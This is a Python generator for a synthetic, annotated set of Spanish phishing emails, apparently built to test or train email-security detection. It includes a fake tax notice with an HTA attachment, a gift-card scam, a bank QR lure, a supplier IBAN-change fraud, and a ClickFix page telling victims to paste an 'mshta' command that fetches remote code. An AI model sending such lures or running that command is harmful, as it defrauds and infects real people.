"""Attack messages: Spanish (27-31)."""
import base64

import banking as bk
import docs
import qr
import zips
from company import *
from infra import exim_cpanel, gmail, ses
from message import alt, att, compose, gmail_alt, mixed, plain2html_simple, related
from mime import Multi, Text
from util import hexs, rng, utc

F = "attack"


def _b64(s):
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


def a27():
    ref = "2026GRC48175034H"
    z = zips.make_zip([("Requerimiento_AEAT_%s_%s.pdf.hta" % (EXAMPLE_ES_CIF, ref), docs.PLACEHOLDER)],
                      when=(2026, 11, 3, 8, 2, 44), seed="a27")
    text = """AGENCIA TRIBUTARIA
Sede Electrónica

Notificación de requerimiento

Titular: EXAMPLE IBERIA SL
NIF: %s
Referencia: %s
Procedimiento: Comprobación limitada - Impuesto sobre Sociedades 2025

Le comunicamos que tiene a su disposición una notificación relativa al procedimiento indicado. Dispone de un plazo de 10 días hábiles desde la recepción de este aviso para atender el requerimiento. Transcurrido dicho plazo sin contestación, se podrá iniciar el procedimiento sancionador correspondiente (art. 203 LGT).

Se adjunta el documento de la notificación en formato comprimido. Para visualizarlo, descomprima el archivo y abra el documento.

Agencia Estatal de Administración Tributaria
Este mensaje ha sido generado automáticamente. Por favor, no responda a este correo.
""" % (EXAMPLE_ES_CIF, ref)
    compose(F, 27, "es", "aeat-requerimiento-zip-hta", exim_cpanel, utc(2026, 11, 3, 7, 3),
            ES_ACC.addr, ("Agencia Tributaria", "notificaciones@reformasgarcia-alacant.es"), [ES_ACC.t],
            "Notificación de requerimiento - Impuesto sobre Sociedades 2025 - Ref. %s" % ref,
            lambda B: mixed(B, 1, Text(text, "plain", "windows-1252", "quoted-printable"),
                            att(z, "application/x-zip-compressed", "Notificacion_AEAT_%s.zip" % ref)),
            hcs="windows-1252", henc="Q",
            pkw=dict(host="es31.siteground.eu", ip="35.214.216.%d" % 31, php="wp-content/themes/astra/inc/mail-queue.php",
                     user="u1873-reformas", site="reformasgarcia-alacant.es"),
            what="Fake Spanish Tax Agency notice with a ZIP containing an HTA script",
            why="AEAT never e-mails notifications with attachments (only DEHú/Sede notices, see business/30); sent via a hacked renovation firm's WordPress, ZIP holds a .pdf.hta (script) - typical Mekotio/Grandoreo-style loader.")


def a28():
    text = """Hola Lucía,

¿Estás en la oficina? Necesito que me hagas una gestión urgente y discreta. Estoy en una reunión con clientes en Valencia y no puedo hablar por teléfono.

Queremos tener un detalle con varios clientes importantes antes del puente de diciembre. Necesito 10 tarjetas regalo de Amazon de 100 € cada una. Puedes comprarlas en cualquier Carrefour o estanco cercano y pagarlas con la tarjeta de la empresa; lo justificamos luego con la nota de gastos.

Cuando las tengas, rasca la parte de atrás y mándame por aquí una foto clara de cada código. Es una sorpresa, así que no lo comentes con nadie de momento.

Gracias,
Javier

Enviado desde mi iPhone
"""
    compose(F, 28, "es", "tarjetas-regalo-suplantacion-director", gmail, utc(2026, 12, 4, 10, 38),
            ES_ACC.addr, ("Javier Muñoz", "javier.munoz.direccion@gmail.com"), [ES_ACC.t], "¿Estás en la oficina?",
            lambda B: gmail_alt(B, 0, text),
            what="Gift-card scam impersonating the Spanish office manager",
            why="Manager's name on a Gmail address, cannot talk by phone, secrecy, buy retail gift cards and send photos of the codes - untraceable cash-out; genuine client gifts go through suppliers (business/28).")


def a29():
    r = rng("a29")
    vid = r.randrange(1000, 9999)
    cmd = 'mshta https://cdn-verify.fichatecnica-docs.com/v/%d # "No soy un robot - ID de verificación de reCAPTCHA: %d"' % (vid, vid)
    page = ('<!DOCTYPE html>\n<html lang="es"><head><meta charset="utf-8"><title>FichaTecnica_Colores_2027 - Verificación</title>\n'
            '<style>body{font-family:-apple-system,Segoe UI,Arial,sans-serif;background:#fff;color:#313131;margin:0}'
            '.wrap{max-width:560px;margin:80px auto;padding:0 20px}.cf{border:1px solid #d9d9d9;padding:18px;display:flex;align-items:center}'
            '.chk{width:26px;height:26px;border:2px solid #999;margin-right:14px}.steps{background:#f7f7f7;border:1px solid #e2e2e2;padding:18px;margin-top:24px;font-size:14px}'
            'kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 5px}input{width:100%%;font-family:Consolas,monospace;font-size:12px}</style></head>\n'
            '<body><div class="wrap"><h1 style="font-size:26px">fichatecnica-docs.com</h1>'
            '<p>Verifique que es un ser humano para acceder al documento protegido «FichaTecnica_Colores_2027.pdf».</p>\n'
            '<div class="cf"><div class="chk"></div>No soy un robot<span style="margin-left:auto;font-size:11px;color:#777">reCAPTCHA<br>Privacidad - Términos</span></div>\n'
            '<div class="steps"><b>Pasos de verificación</b><ol>'
            '<li>Pulse <kbd>Windows</kbd> + <kbd>R</kbd></li>'
            '<li>Copie el código de verificación de abajo y péguelo con <kbd>Ctrl</kbd> + <kbd>V</kbd></li>'
            '<li>Pulse <kbd>Intro</kbd> para completar la verificación</li></ol>\n'
            '<input type="text" readonly value="%s"></div>\n'
            '<p style="font-size:12px;color:#888">Ray ID: %s &middot; Rendimiento y seguridad</p></div></body></html>\n' % (cmd.replace('"', "&quot;"), hexs(r, 16)))
    text = """Buenos días Javier,

Tal como hablamos con Montse, os adjunto la ficha técnica de colores y solidez para la temporada 2027 (tintura reactiva sobre sarga 65/35, referencias RAL para la línea de alta visibilidad).

El documento está protegido; si al abrirlo os pide una verificación, seguid los pasos que aparecen en pantalla.

Quedo pendiente de vuestros comentarios para lanzar las muestras de laboratorio.

Saludos cordiales,

Núria Soler
Departamento Técnico
Tints i Acabats Terrassa S.L.
Tel. 93 788 15 02
"""
    compose(F, 29, "es", "clickfix-ficha-tecnica-html", exim_cpanel, utc(2026, 11, 25, 9, 46),
            ES_MGR.addr, ("Núria Soler", "nsoler@tintsterrassa.com"), [ES_MGR.t],
            "Ficha técnica colores 2027 - muestras de tintura",
            lambda B: mixed(B, 1, alt(B, 2, text, plain2html_simple(text), "iso-8859-1", "quoted-printable"),
                            att(page.encode("utf-8"), "text/html", "FichaTecnica_Colores_2027.html", charset="utf-8")),
            hcs="iso-8859-1", henc="Q",
            pkw=dict(host="cp7.dinahosting.com", ip="82.98.134.%d" % 71, cip="91.132.139.%d" % 204),
            what="ClickFix lure: HTML 'document' that tells the user to paste a command into Win+R",
            why="Mailbox of a dyeing house compromised (webmail login from a VPS IP); the attachment is a fake CAPTCHA instructing Win+R / Ctrl+V / Enter of an mshta command that would fetch malware (shown as text only, no script in the file).")


def a30():
    r = rng("a30")
    url = "https://bsonline-empresas.com/firma/activar?c=%s&u=%s" % (hexs(r, 8), _b64(ES_ACC.addr))
    png = qr.qr_png(url, scale=5)
    plain = """Banco Sabadell - BS Online Empresas

Estimado cliente:

Con motivo de la entrada en vigor de la nueva normativa europea de servicios de pago, es necesario vincular de nuevo el dispositivo de firma de operaciones de su empresa (EXAMPLE IBERIA SL).

Hasta completar la vinculación, la firma de transferencias y remesas de nóminas queda limitada.

Escanee el código QR con la cámara de su móvil y siga los pasos. El proceso dura menos de 2 minutos.

Atentamente,
Banco de Sabadell, S.A.
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="background:#f5f5f5;font-family:Arial,sans-serif">'
            '<table width="580" align="center" style="background:#fff"><tr><td style="background:#006dff;color:#fff;padding:16px 22px;font-size:20px">Sabadell <span style="font-size:13px">BS Online Empresas</span></td></tr>'
            '<tr><td style="padding:22px;font-size:14px;color:#333"><p>Estimado cliente:</p>'
            '<p>Con motivo de la entrada en vigor de la nueva normativa europea de servicios de pago, es necesario vincular de nuevo el dispositivo de firma de operaciones de su empresa (<b>EXAMPLE IBERIA SL</b>).</p>'
            '<p>Hasta completar la vinculación, <b>la firma de transferencias y remesas de nóminas queda limitada</b>.</p>'
            '<p style="text-align:center"><img src="cid:codigo-firma" width="185" height="185" alt="Código QR"></p>'
            '<p>Escanee el código QR con la cámara de su móvil y siga los pasos. El proceso dura menos de 2 minutos.</p>'
            '<p>Atentamente,<br>Banco de Sabadell, S.A.</p></td></tr></table></body></html>\n')
    compose(F, 30, "es", "banco-sabadell-firma-qr-ses", ses, utc(2026, 10, 16, 7, 12),
            ES_ACC.addr, ("Banco Sabadell Empresas", "avisos@bsonline-empresas.com"), [ES_ACC.t],
            "Acción requerida: vinculación del dispositivo de firma - BS Online Empresas",
            lambda B: Multi("alternative", [Text(plain, "plain", "utf-8", "base64"),
                                            related(B, 1, Text(html, "html", "utf-8", "base64"),
                                                    att(png, "image/png", "codigo.png", disp="inline", cid="codigo-firma"))], B(0)),
            what="Business-banking quishing (fake Banco Sabadell device re-binding)",
            why="Look-alike domain bsonline-empresas.com via Amazon SES, QR code instead of a link, vague 'new EU payment rules' pretext, threat to block payroll transfers; the QR leads to a fake e-banking login/OTP capture.",
            meta=dict(has_qr=True))


def a31():
    cert = docs.letter_pdf([
        ("ING", 18, True), ("ING Bank N.V., Sucursal en España", 8, False), "",
        ("CERTIFICADO DE TITULARIDAD DE CUENTA", 12, True), "",
        "ING Bank N.V., Sucursal en España, certifica que la cuenta", "",
        "IBAN: %s" % bk.fmt_iban(CREM_FAKE_IBAN), "BIC: INGDESMMXXX", "",
        "figura a nombre de CREMALLERAS VALLES SA, con CIF %s." % CREM_CIF, "",
        "Y para que conste a los efectos oportunos, se expide el presente certificado en Madrid, a 25 de noviembre de 2026."],
        title="Certificado titularidad", author="", producer="Microsoft: Print To PDF", creator="")
    text = """Buenos días Lucía,

Os informamos de que, por un cambio en nuestra política de tesorería, a partir de hoy todos los pagos a Cremalleras Vallès deben realizarse en nuestra nueva cuenta de ING. Adjuntamos el certificado de titularidad.

IBAN: %s
BIC: INGDESMMXXX

Os agradeceríamos que actualizarais vuestros datos y que la factura FV-26/0931 (vencimiento 15/01/2027) se abone ya en esta cuenta; si podéis adelantar el pago esta semana os aplicamos un 2 %% de descuento pronto pago.

Por favor, confirmadnos por correo el cambio. La cuenta de CaixaBank dejará de estar operativa en los próximos días.

Un saludo,

Montserrat Puig
Cremalleras Vallès S.A.
Carretera de Terrassa 88 - 08203 Sabadell
""" % bk.fmt_iban(CREM_FAKE_IBAN)
    compose(F, 31, "es", "cremalleras-cambio-cuenta-dominio-sosia", gmail, utc(2026, 11, 26, 11, 4),
            ES_ACC.addr, ("Montserrat Puig", "m.puig@cremalleras-valles.com"), [ES_ACC.t],
            "Cambio de cuenta bancaria - Cremalleras Vallès",
            lambda B: mixed(B, 1, gmail_alt(B, 2, text), att(cert, "application/pdf", "Certificado_titularidad_cuenta_ING.pdf")),
            what="Supplier bank-detail change from look-alike cremalleras-valles.com (Google Workspace)",
            why="Same Google infrastructure as the real supplier but .com instead of .es, cites the real invoice from business/27, early-payment bait, unsigned 'bank certificate' printed to PDF, confirmation only by e-mail.")


def build():
    for f in (a27, a28, a29, a30, a31):
        f()
